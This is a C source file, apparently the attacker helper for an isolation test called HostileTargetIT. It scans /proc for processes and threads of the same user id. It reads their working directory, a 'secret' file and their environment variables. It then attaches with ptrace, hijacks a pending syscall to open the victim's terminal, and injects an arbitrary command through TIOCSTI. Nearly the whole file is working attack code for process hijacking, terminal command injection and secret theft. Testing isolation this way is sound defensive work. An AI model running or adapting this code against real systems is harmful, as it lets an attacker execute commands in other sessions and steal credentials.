/*
 * Attacks every process and thread that gets this user's id while it runs, as a hostile user would beside root. For
 * HostileTargetIT.
 *
 *     gcc -o intruder intruder.c
 *     intruder COMMAND
 *
 * COMMAND is typed into the terminal of each process that can be traced (TIOCSTI on x86-64). Each success is one line on
 * stdout that begins with "got". Processes of this user that run already, or that have the variable HOSTILE, are left
 * alone. It ends when stdin ends.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#define MOST 8192

static int left_alone[MOST];
static int traced[MOST];
static int left_alone_count;
static int traced_count;
static const char *typed;

static int contains(const int *numbers, int count, int number) {
    for (int i = 0; i < count; i++) {
        if (numbers[i] == number) {
            return 1;
        }
    }
    return 0;
}

static ssize_t text(const char *path, char *into, size_t size) {
    int file = open(path, O_RDONLY | O_CLOEXEC);
    if (file < 0) {
        return -1;
    }
    ssize_t got = read(file, into, size - 1);
    close(file);
    into[got < 0 ? 0 : got] = 0;
    return got;
}

/* Whether one of the four user ids in a status file is ours. */
static int is_ours(const char *folder) {
    char path[300], status[4096];
    snprintf(path, sizeof path, "%s/status", folder);
    if (text(path, status, sizeof status) <= 0) {
        return 0;
    }
    const char *line = strstr(status, "\nUid:");
    unsigned ids[4] = {0, 0, 0, 0};
    if (line == NULL || sscanf(line, "\nUid: %u %u %u %u", &ids[0], &ids[1], &ids[2], &ids[3]) != 4) {
        return 0;
    }
    unsigned own = getuid();
    return ids[0] == own || ids[1] == own || ids[2] == own || ids[3] == own;
}

/*
 * Whether a process was started by the test for the hostile user. The environment is empty for a moment while the kernel
 * starts a program (environ_read in fs/proc/base.c), so it is read again for up to 50 ms.
 */
static int is_accomplice(const char *folder) {
    static char variables[1 << 16];
    char path[300];
    snprintf(path, sizeof path, "%s/environ", folder);
    ssize_t length = 0;
    for (int round = 0; round < 50 && length <= 0; round++) {
        if (round > 0) {
            usleep(1000);
        }
        length = text(path, variables, sizeof variables);
    }
    return length > 0 && memmem(variables, (size_t) length, "HOSTILE=1", 9) != NULL;
}

/*
 * Whether a process is setpriv(1), which has taken our user id and has not started its program yet. Its environment
 * cannot be read then, so it is not known whether it is an accomplice. Its program is looked at in the next round.
 */
static int is_starting(const char *folder) {
    char path[300], name[32];
    snprintf(path, sizeof path, "%s/comm", folder);
    return text(path, name, sizeof name) <= 0 || strcmp(name, "setpriv\n") == 0;
}

#ifdef __x86_64__
static long call(int task, struct user_regs_struct *at, long number, long first, long second, long third) {
    struct user_regs_struct now = *at;
    now.rip = at->rip - 2; /* the task waits in a system call, and this is its instruction */
    now.rax = (unsigned long) number;
    now.orig_rax = (unsigned long) -1;
    now.rdi = (unsigned long) first;
    now.rsi = (unsigned long) second;
    now.rdx = (unsigned long) third;
    if (ptrace(PTRACE_SETREGS, task, 0, &now) != 0 || ptrace(PTRACE_SINGLESTEP, task, 0, 0) != 0
        || waitpid(task, NULL, __WALL) != task || ptrace(PTRACE_GETREGS, task, 0, &now) != 0) {
        return -1;
    }
    return (long) now.rax;
}

/* Has a stopped task open its terminal and push our command into the terminal's input. */
static void type(int task) {
    struct user_regs_struct at;
    if (ptrace(PTRACE_GETREGS, task, 0, &at) != 0) {
        return;
    }
    long instruction = ptrace(PTRACE_PEEKTEXT, task, at.rip - 2, 0);
    if ((instruction & 0xffff) != 0x050f) {
        return;
    }
    unsigned long place = (at.rsp - 4096) & ~7ul;
    char name[16] = "/dev/tty";
    struct iovec here = {name, sizeof name}, there = {(void *) place, sizeof name};
    if (process_vm_writev(task, &here, 1, &there, 1, 0) != sizeof name) {
        return;
    }
    long terminal = call(task, &at, SYS_open, (long) place, O_RDWR | O_NOCTTY, 0);
    size_t pushed = 0;
    for (; terminal >= 0 && pushed < strlen(typed) + 1; pushed++) {
        name[0] = pushed < strlen(typed) ? typed[pushed] : '\n';
        if (process_vm_writev(task, &here, 1, &there, 1, 0) != sizeof name
            || call(task, &at, SYS_ioctl, terminal, TIOCSTI, (long) place) != 0) {
            break;
        }
    }
    if (terminal >= 0) {
        printf("got the terminal by task %d: %zu characters typed\n", task, pushed);
        call(task, &at, SYS_close, terminal, 0, 0);
    }
    ptrace(PTRACE_SETREGS, task, 0, &at);
}
#else
static void type(int task) {
    (void) task;
}
#endif

static void trace(int task) {
    if (traced_count == MOST || contains(traced, traced_count, task) || ptrace(PTRACE_ATTACH, task, 0, 0) != 0) {
        return;
    }
    printf("got to trace task %d\n", task);
    traced[traced_count++] = task;
    if (waitpid(task, NULL, __WALL) == task) {
        type(task);
    }
    ptrace(PTRACE_DETACH, task, 0, 0);
}

static void attack(const char *folder, int task) {
    char path[300], into[4096];
    snprintf(path, sizeof path, "%s/cwd", folder);
    ssize_t length = readlink(path, into, sizeof into - 1);
    if (length >= 0) {
        into[length] = 0;
        printf("got the working directory of task %d: %s\n", task, into);
    }
    snprintf(path, sizeof path, "%s/cwd/secret", folder);
    if (text(path, into, sizeof into) > 0) {
        printf("got a file by task %d: %s\n", task, into);
    }
    snprintf(path, sizeof path, "%s/environ", folder);
    if ((length = text(path, into, sizeof into)) > 0) {
        printf("got the environment of task %d: %zd bytes\n", task, length);
    }
    snprintf(path, sizeof path, "%s/fd", folder);
    DIR *files = opendir(path);
    if (files != NULL) {
        if (readdir(files) != NULL) {
            printf("got the descriptors of task %d\n", task);
        }
        closedir(files);
    }
    if (kill(task, 0) == 0) {
        printf("got to signal task %d\n", task);
    }
    trace(task);
}

static void threads(int process) {
    char path[300], name[32];
    snprintf(path, sizeof path, "/proc/%d/comm", process);
    if (text(path, name, sizeof name) <= 0 || strncmp(name, "java", 4) != 0) {
        return;
    }
    snprintf(path, sizeof path, "/proc/%d/task", process);
    DIR *tasks = opendir(path);
    for (struct dirent *entry; tasks != NULL && (entry = readdir(tasks)) != NULL;) {
        int task = atoi(entry->d_name);
        snprintf(path, sizeof path, "/proc/%d/task/%d", process, task);
        if (task > 0 && is_ours(path)) {
            printf("saw thread %d of process %d\n", task, process);
            attack(path, task);
        }
    }
    if (tasks != NULL) {
        closedir(tasks);
    }
}

static void look(int first) {
    DIR *processes = opendir("/proc");
    for (struct dirent *entry; processes != NULL && (entry = readdir(processes)) != NULL;) {
        char path[300];
        int process = isdigit((unsigned char) entry->d_name[0]) ? atoi(entry->d_name) : 0;
        snprintf(path, sizeof path, "/proc/%d", process);
        if (process == 0 || process == getpid() || contains(left_alone, left_alone_count, process)) {
            continue;
        }
        if (!is_ours(path)) {
            if (!first) {
                threads(process);
            }
        } else if (is_starting(path)) {
            continue;
        } else if (!first && !is_accomplice(path)) {
            attack(path, process);
        } else if (left_alone_count < MOST) {
            left_alone[left_alone_count++] = process;
        }
    }
    if (processes != NULL) {
        closedir(processes);
    }
}

int main(int count, char **arguments) {
    if (count != 2) {
        return 2;
    }
    typed = arguments[1];
    setvbuf(stdout, NULL, _IOLBF, 0);
    look(1);
    printf("looks\n");
    struct pollfd end = {0, POLLIN, 0};
    while (poll(&end, 1, 1) == 0) {
        look(0);
    }
    return 0;
}
